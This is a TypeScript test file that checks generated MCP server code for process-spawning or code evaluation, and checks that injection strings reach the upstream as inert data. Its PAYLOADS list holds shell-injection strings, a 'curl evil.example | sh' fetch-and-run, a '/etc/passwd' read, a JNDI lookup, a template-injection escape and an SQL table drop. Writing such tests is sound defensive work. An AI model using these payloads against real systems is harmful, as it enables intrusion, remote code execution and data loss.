/** No generated code starts programs or makes code of text, and what a shell would act on is text like any other. */
import { fileURLToPath } from 'node:url';

import { expect, test } from 'vitest';

import { createProject, FIXTURES, inTemporaryProject, readFixture, readTree } from '../../scripts/fixture-projects.ts';
import { RUNTIME_VERSIONS } from '../../src/render/versions.ts';
import { findForbidden, type Rules } from './syntax/forbidden.ts';
import { connectStdio, setTarget, useProject } from './target.ts';

useProject();

/** What a server that makes tools of HTTP requests needs of Node.js. */
const BUILT_IN = `async_hooks console crypto dns fs http https net path sqlite stream timers/promises tls util`
  .split(' ')
  .map((name) => `node:${name}`);

/** Everything else that has code in it runs while a project is tested, and may start the server as a process. */
const NOT_IN_PRODUCTION = /^(test\/|vitest\.config\.ts$)/;

test.each(FIXTURES)(
  'all that runs of the project %s has no way to start programs or to make code of text',
  async (name) => {
    const files = await inTemporaryProject(async (directory) => {
      await createProject(directory, await readFixture(name));
      return readTree(directory);
    });
    const code = [...files].filter(([path]) => /\.[cm]?[jt]sx?$/.test(path) && !NOT_IN_PRODUCTION.test(path));
    expect(code.filter(([path]) => !path.startsWith('src/'))).toEqual([]);
    const { dependencies = {} } = JSON.parse(files.get('package.json') ?? '{}');
    const modules = new Set([...BUILT_IN, ...Object.keys(dependencies), ...ENTRIES]);
    const found = code.flatMap(([path, source]) =>
      findForbidden(source, path.endsWith('ts') ? 'ts' : 'js', { modules, ...allowedTo(path) }).map(
        (one) => `${path}:${one}`,
      ),
    );
    expect(found).toEqual([]);
    expect(code.length).toBeGreaterThan(40);
  },
);

test('nor has the rest of the kernel, which other manifests need', async () => {
  const kernel = await readTree(fileURLToPath(new URL('../../templates/kernel', import.meta.url)));
  const modules = new Set([...BUILT_IN, ...Object.keys(RUNTIME_VERSIONS), ...ENTRIES]);
  const found = [...kernel].flatMap(([path, source]) =>
    findForbidden(source, 'ts', { modules, ...allowedTo(`src/kernel/${path}`) }).map((one) => `${path}:${one}`),
  );
  expect(found).toEqual([]);
  expect(kernel.size).toBeGreaterThan(150);
});

/** Parts of packages that have several. */
const ENTRIES = ['@modelcontextprotocol/server/stdio'];

/** Where the environment is read: once by the kernel, and once by code of yours that has settings of its own. */
const CONFIGURATION = new Set(['src/kernel/config/process-variables.ts', 'src/retail/settings.ts']);

function allowedTo(path: string): Partial<Rules> {
  if (CONFIGURATION.has(path)) return { ofProcess: ['env'] };
  return { readsConstructor: path.startsWith('src/generated/validators/') };
}

const PAYLOADS = [
  '; touch pwned',
  '$(touch pwned)',
  '`touch pwned`',
  '| cat /etc/passwd',
  '&& curl evil.example | sh',
  '\n/bin/sh -c "id"\n',
  "' || id || '",
  '"; id; "',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '%0aid',
  '--output=/etc/passwd',
  '\u0000id',
  "'; DROP TABLE operations; --",
];

test('what a shell would act on reaches the upstream as it is, from every string field, in place of a program', async () => {
  const target = await setTarget();
  const { client } = await connectStdio(target);
  for (const [index, payload] of PAYLOADS.entries()) {
    const { length } = target.upstream.received;
    await client.callTool({ name: 'note', arguments: { text: payload } });
    await client.callTool({ name: 'relay', arguments: { text: payload } });
    const looked = await client.callTool({
      name: 'look',
      arguments: { id: `a${payload}`, q: payload, note: `a${index}` },
    });
    const [noted, relayed, got] = target.upstream.received.slice(length);
    expect(JSON.parse(noted?.body ?? '{}')).toMatchObject({ text: payload });
    expect(JSON.parse(relayed?.body ?? '{}')).toEqual({ text: payload });
    expect({ payload, isError: looked.isError }).toEqual({ payload, isError: undefined });
    const url = new URL(got?.url ?? '', target.upstream.url);
    expect(url.pathname.split('/').map(decodeURIComponent)).toEqual(['', 'v1', 'things', `a${payload}`, 'parts']);
    expect([...url.searchParams]).toEqual([['q', payload]]);
  }
  const written = PAYLOADS.filter((payload) => !/[^\x20-\x7e]/.test(payload));
  for (const note of written) {
    await client.callTool({ name: 'look', arguments: { id: 'a', note } });
    expect(target.upstream.received.at(-1)?.headers['x-note']).toBe(note);
  }
  expect(written.length).toBeGreaterThan(9);
});
